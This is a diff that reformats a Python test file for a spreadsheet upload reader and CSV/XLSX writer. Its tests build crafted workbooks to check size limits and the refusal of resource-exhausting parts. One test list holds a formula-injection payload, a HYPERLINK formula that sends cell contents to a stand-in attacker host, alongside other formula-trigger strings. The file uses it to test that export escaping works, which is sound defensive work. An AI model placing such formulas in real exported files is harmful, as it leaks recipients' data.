@@ -21,7 +21,7 @@ CONTENT_TYPES = (
     'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
     '<Override PartName="/xl/worksheets/sheet1.xml" '
     'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
-    '{shared}</Types>'
+    "{shared}</Types>"
 )
 SHARED_TYPE = (
     '<Override PartName="/xl/sharedStrings.xml" '
@@ -52,7 +52,9 @@ SHARED_REL = (
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 
 
-def handmade_xlsx(sheet_data: str, *, dimension: str = "A1", shared_strings: bytes | None = None) -> bytes:
+def handmade_xlsx(
+    sheet_data: str, *, dimension: str = "A1", shared_strings: bytes | None = None
+) -> bytes:
     """An XLSX written part by part, the way a crafted file would be."""
     sheet = (
         f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN}">'
@@ -61,10 +63,15 @@ def handmade_xlsx(sheet_data: str, *, dimension: str = "A1", shared_strings: byt
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
         has_shared = shared_strings is not None
-        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(shared=SHARED_TYPE if has_shared else ""))
+        archive.writestr(
+            "[Content_Types].xml", CONTENT_TYPES.format(shared=SHARED_TYPE if has_shared else "")
+        )
         archive.writestr("_rels/.rels", ROOT_RELS)
         archive.writestr("xl/workbook.xml", WORKBOOK)
-        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(shared=SHARED_REL if has_shared else ""))
+        archive.writestr(
+            "xl/_rels/workbook.xml.rels",
+            WORKBOOK_RELS.format(shared=SHARED_REL if has_shared else ""),
+        )
         archive.writestr("xl/worksheets/sheet1.xml", sheet)
         if has_shared:
             archive.writestr("xl/sharedStrings.xml", shared_strings)
@@ -101,8 +108,11 @@ def test_the_declared_dimension_does_not_pad_the_rows_of_an_ordinary_file():
 
 def test_a_workbook_with_a_huge_shared_strings_part_is_refused_before_it_is_loaded():
     strings = b"<si><t>" + b"A" * 1000 + b"</t></si>"
-    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="10000" uniqueCount="10000">'
-              .encode() + strings * 10_000 + b"</sst>")
+    shared = (
+        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="10000" uniqueCount="10000">'.encode()
+        + strings * 10_000
+        + b"</sst>"
+    )
     content = handmade_xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared_strings=shared)
     assert len(content) < 100_000
     started = time.monotonic()
@@ -116,7 +126,9 @@ def test_a_workbook_with_a_huge_shared_strings_part_is_refused_before_it_is_load
 def test_a_part_read_whole_beyond_its_limit_is_refused_even_when_it_packs_poorly(settings):
     settings.GRASSROOTS_UPLOAD_MAX_PART_BYTES = 100_000
     strings = b"".join(f"<si><t>{n * 7919 % 1000003:x}</t></si>".encode() for n in range(20_000))
-    shared = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode() + strings + b"</sst>"
+    shared = (
+        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode() + strings + b"</sst>"
+    )
     content = handmade_xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared_strings=shared)
     with pytest.raises(FileError) as refused:
         list(read_rows(io.BytesIO(content), "strings.xlsx"))
@@ -137,7 +149,10 @@ def test_a_file_over_the_size_cap_is_refused_with_the_cap_in_the_message(setting
     content = b"x" * (10 * 1024 + 1)
     with pytest.raises(FileError) as refused:
         list(read_rows(io.BytesIO(content), name))
-    assert str(refused.value) == "The file is larger than 10.0\xa0KB, the most an upload may be: split it."
+    assert (
+        str(refused.value)
+        == "The file is larger than 10.0\xa0KB, the most an upload may be: split it."
+    )
 
 
 def test_a_file_read_by_a_command_on_the_server_has_no_size_cap(settings):
@@ -149,17 +164,23 @@ def test_a_file_read_by_a_command_on_the_server_has_no_size_cap(settings):
 def test_reading_stops_after_the_run_of_empty_rows_that_ends_a_sheet(settings):
     settings.GRASSROOTS_UPLOAD_MAX_EMPTY_ROWS = 10
     empty = "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(3, 40))
-    content = handmade_xlsx(f'<row r="1">{inline("A1", "code")}</row><row r="2">{inline("A2", "X")}</row>{empty}')
+    content = handmade_xlsx(
+        f'<row r="1">{inline("A1", "code")}</row><row r="2">{inline("A2", "X")}</row>{empty}'
+    )
     assert list(read_xlsx_rows(io.BytesIO(content))) == [(1, ["code"]), (2, ["X"])]
 
 
 def test_data_after_more_empty_rows_than_allowed_is_refused_not_dropped(settings):
     settings.GRASSROOTS_UPLOAD_MAX_EMPTY_ROWS = 10
-    content = handmade_xlsx(f'<row r="1">{inline("A1", "code")}</row><row r="13">{inline("A13", "X")}</row>')
+    content = handmade_xlsx(
+        f'<row r="1">{inline("A1", "code")}</row><row r="13">{inline("A13", "X")}</row>'
+    )
     with pytest.raises(FileError) as refused:
         list(read_xlsx_rows(io.BytesIO(content)))
     assert "Row 13 holds data after 11 empty rows" in str(refused.value)
-    content = handmade_xlsx(f'<row r="1">{inline("A1", "code")}</row><row r="12">{inline("A12", "X")}</row>')
+    content = handmade_xlsx(
+        f'<row r="1">{inline("A1", "code")}</row><row r="12">{inline("A12", "X")}</row>'
+    )
     assert list(read_xlsx_rows(io.BytesIO(content)))[-1] == (12, ["X"])
 
 
@@ -180,7 +201,14 @@ def test_the_row_count_of_a_job_is_known_without_reading_the_cells():
 
 # --- writing ---------------------------------------------------------------------------------
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+]
 
 
 def test_text_that_reads_as_a_formula_is_written_to_csv_with_a_leading_quote():
@@ -202,4 +230,8 @@ def test_text_that_reads_as_a_formula_is_a_string_cell_in_xlsx_and_numbers_stay_
     for cell, text in zip(cells, DANGEROUS, strict=False):
         # (XML reads a carriage return back as a line feed)
         assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix
-    assert [(c.data_type, c.value) for c in cells[6:]] == [("s", "Nguyễn Văn An"), ("n", -5), ("n", 2.5)]
+    assert [(c.data_type, c.value) for c in cells[6:]] == [
+        ("s", "Nguyễn Văn An"),
+        ("n", -5),
+        ("n", 2.5),
+    ]
